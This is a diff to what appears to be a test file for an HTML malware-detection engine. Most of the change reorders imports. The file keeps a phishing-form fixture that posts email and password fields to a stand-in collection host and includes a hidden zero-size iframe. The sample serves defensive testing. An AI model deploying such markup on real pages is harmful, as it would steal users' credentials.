@@ -13,11 +13,14 @@ import time
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
-from selectolax.lexbor import LexborHTMLParser
-
 from malwaresnipper.engine.features.html import parse_html
-from malwaresnipper.engine.features.markup import MAX_NESTING, HtmlReducer, bound_nesting
+from malwaresnipper.engine.features.markup import (
+    MAX_NESTING,
+    HtmlReducer,
+    bound_nesting,
+)
 from malwaresnipper.engine.fit import fit_html, fit_script, head_and_tail
+from selectolax.lexbor import LexborHTMLParser
 
 PHISH_FORM = ('<form action="http://collect.example/p.php" method="post"><input name="email">'
               '<input type="password" name="pw"><iframe src="http://x.example/f" width=0 height=0></iframe></form>')
